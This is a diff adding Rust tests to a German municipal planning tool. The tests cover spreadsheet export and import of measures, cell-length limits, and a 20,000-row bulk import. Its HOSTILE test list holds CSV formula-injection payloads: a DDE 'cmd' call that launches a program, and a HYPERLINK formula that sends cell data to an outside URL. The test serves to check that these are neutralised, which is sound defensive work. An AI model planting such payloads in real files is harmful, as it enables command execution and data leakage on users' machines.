@@ -229,3 +229,157 @@ fn the_measures_commands_import_and_export_a_project() {
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("liste.csv"));
 }
+
+/// Titles a spreadsheet would run as formulas, and texts that merely look close.
+const HOSTILE: [&str; 9] = [
+    "=HYPERLINK(\"http://example.org/?d=\"&A1;\"Details\")",
+    "=cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "+49 241 5198 0",
+    "-2+3",
+    "\t=1+1",
+    "'=schon mit Hochkomma",
+    "'s-Hertogenbosch",
+    "Quartiersbüro; „Mühle“ = Treff",
+];
+
+fn hostile_measures() -> Vec<Measure> {
+    HOSTILE
+        .iter()
+        .enumerate()
+        .map(|(k, title)| Measure {
+            id: k as i64 + 1,
+            title: (*title).into(),
+            lead: "=1+1".into(),
+            notes: "@A1".into(),
+            areas: vec!["AC 3".into()],
+            ..Measure::default()
+        })
+        .collect()
+}
+
+#[test]
+fn formula_cells_are_neutralised_in_csv_and_xlsx_and_come_back_as_the_same_text() {
+    let dir = temp_dir("hostile-cells");
+    let region = demo_region();
+    for name in ["liste.csv", "liste.xlsx"] {
+        let path = dir.join(name);
+        write_measures(&path, &hostile_measures(), Lang::De).expect("written");
+        if name.ends_with(".csv") {
+            let text = std::fs::read_to_string(&path).expect("read");
+            for line in text.lines().skip(1) {
+                for cell in line.split(';') {
+                    let cell = cell.trim_start_matches('"');
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "a formula cell in {line:?}"
+                    );
+                }
+            }
+            assert!(text.contains("'=HYPERLINK("), "{text}");
+            assert!(text.contains("'@SUM(A1:A9)"), "{text}");
+        }
+        let (read, report) =
+            read_measures(&path, &region, &MeasureRegister::default(), Lang::De).expect("read");
+        assert_eq!(report.taken, HOSTILE.len(), "{name}: {report:?}");
+        let titles: Vec<&str> = read.iter().map(|m| m.title.as_str()).collect();
+        assert_eq!(titles, HOSTILE, "{name}: every text as it was");
+        assert!(
+            read.iter().all(|m| m.lead == "=1+1" && m.notes == "@A1"),
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn an_over_long_cell_is_reported_per_row_and_never_ends_the_export() {
+    let dir = temp_dir("long-cell");
+    let mut list = measures();
+    // Longer than an Excel cell holds (a text another program put into the project file).
+    list[1].description = "Sehr lang ".repeat(4_000);
+    let path = dir.join("liste.xlsx");
+    let notes = write_measures(&path, &list, Lang::De).expect("the list is written");
+    assert_eq!(notes.len(), 1, "{notes:?}");
+    assert!(
+        notes[0].contains("Zeile 3") && notes[0].contains("Beschreibung"),
+        "{notes:?}"
+    );
+    let table = sozialraum_atlas::io::table::read_table(&path).expect("read");
+    assert_eq!(table.rows.len(), 2, "both rows are there");
+    let cell = table.rows[1][2].text();
+    assert_eq!(cell.chars().count(), 32_767, "cut at what Excel holds");
+    // On import, a text longer than its field takes is refused for that row, by name.
+    let csv = dir.join("lang.csv");
+    std::fs::write(
+        &csv,
+        format!(
+            "Titel;Sozialräume\nkurz;AC 1\n{};AC 2\nauch kurz;AC 3\n",
+            "T".repeat(1_000_000)
+        ),
+    )
+    .expect("write");
+    let (read, report) =
+        read_measures(&csv, &demo_region(), &MeasureRegister::default(), Lang::De).expect("read");
+    assert_eq!(read.len(), 2);
+    assert_eq!(report.skipped.len(), 1, "{report:?}");
+    let (line, why) = &report.skipped[0];
+    assert_eq!(*line, 3);
+    assert!(
+        why.contains("Titel ist zu lang") && why.contains("1.000.000") && why.contains("300"),
+        "{why}"
+    );
+}
+
+#[test]
+fn a_list_of_20_000_measures_goes_in_as_one_transaction_with_progress() {
+    let dir = temp_dir("bulk-import");
+    let project = dir.join("projekt.gpkg");
+    let demo = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("maps/staedteregion_aachen_demo.geojson");
+    let exe = env!("CARGO_BIN_EXE_sozialraum-atlas");
+    let status = std::process::Command::new(exe)
+        .args(["project", "new"])
+        .arg(&demo)
+        .arg("--out")
+        .arg(&project)
+        .status()
+        .expect("runs");
+    assert!(status.success());
+    let list = dir.join("liste.csv");
+    let mut csv = String::from("Titel;Sozialräume;Budget (€)\n");
+    for k in 0..20_000 {
+        csv.push_str(&format!("Maßnahme {k};AC {};{}\n", 1 + k % 14, 100 + k));
+    }
+    std::fs::write(&list, csv).expect("list");
+    let started = std::time::Instant::now();
+    let out = std::process::Command::new(exe)
+        .args(["measures", "import"])
+        .arg(&project)
+        .arg(&list)
+        .output()
+        .expect("runs");
+    let took = started.elapsed();
+    let text = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{text}");
+    assert!(text.contains("20.000 Maßnahmen übernommen"), "{text}");
+    assert!(
+        text.contains("10.000 von 20.000 Maßnahmen geschrieben"),
+        "{text}"
+    );
+    eprintln!(
+        "20,000 measures imported in {:.2} s (debug build)",
+        took.as_secs_f64()
+    );
+    let conn = rusqlite::Connection::open(&project).expect("open");
+    let n: i64 = conn
+        .query_row("SELECT count(*) FROM massnahmen", [], |r| r.get(0))
+        .expect("count");
+    assert_eq!(n, 20_000);
+    let counted: i64 = conn
+        .query_row("SELECT sum(massnahmen) FROM sozialraeume", [], |r| r.get(0))
+        .expect("counts");
+    assert_eq!(
+        counted, 20_000,
+        "the layer's counts in the same transaction"
+    );
+}
